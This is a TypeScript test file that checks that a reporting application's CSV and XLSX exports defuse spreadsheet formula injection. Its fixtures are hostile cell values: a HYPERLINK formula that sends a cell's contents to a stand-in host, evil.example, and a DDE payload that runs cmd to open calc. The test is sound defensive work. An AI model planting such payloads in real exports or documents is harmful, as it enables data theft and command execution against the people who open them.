// A name typed as a formula ("=HYPERLINK(…)") must reach an officer's spreadsheet as text: the
// CSV's cells get the usual leading apostrophe, the XLSX's stay text cells (never formulas).
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { csvField, summaryCsv } from "../../src/application/reports/csv.ts";
import { buildReport } from "../../src/application/reports/report.ts";
import { reportXlsx } from "../../src/application/reports/xlsx.ts";
import { threeTier } from "../support/fixtures.ts";
import { modelRows } from "./dataset.ts";
import { NOW, parseCsv, translator, tree } from "./support.ts";

const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const UNIT = "+SUM(1+1)*cmd|' /C calc'!A0";
const ADDRESS = "@SUM(A1:A9), thôn Đông";

function hostileReport() {
  const submissions = [
    ...modelRows(
      {
        n: 1,
        body: "NB-HL-NH",
        field: "economy",
        chain: ["submitted"],
        score: 90,
        name: NAME,
        unit: UNIT,
        address: ADDRESS,
      },
      tree,
      threeTier,
    ),
    ...modelRows(
      { n: 2, body: "NB-HL-NH", field: "economy", chain: ["accepted"], score: 80, name: "-1+2" },
      tree,
      threeTier,
    ),
  ];
  return buildReport({ submissions, tree, rulebook: threeTier, bodyCode: "NB-HL", from: 2026, now: NOW });
}

describe("exports never hand a spreadsheet a formula", () => {
  it("neutralises every CSV cell that starts with =, +, -, @, a tab or a carriage return", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"])
      expect(csvField(`${start}1`).replace(/^"/, "")).toMatch(/^'/);
    expect(csvField("Mô hình = tốt")).toBe("Mô hình = tốt");
    const text = summaryCsv(hostileReport(), translator, "vi").toString("utf8");
    const cells = parseCsv(text.slice(1)).flat();
    for (const hostile of [NAME, UNIT, "-1+2"]) {
      expect(cells).toContain(`'${hostile}`);
      expect(cells).not.toContain(hostile);
    }
    // No cell of the file starts a formula.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it("keeps such names as text cells in the XLSX workbook, never formulas", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await reportXlsx(hostileReport(), translator, "vi")) as unknown as ExcelJS.Buffer,
    );
    const found: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (cell.value === NAME || cell.value === UNIT) found.push(cell);
        }),
      ),
    );
    expect(found.map((c) => c.type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
  });
});
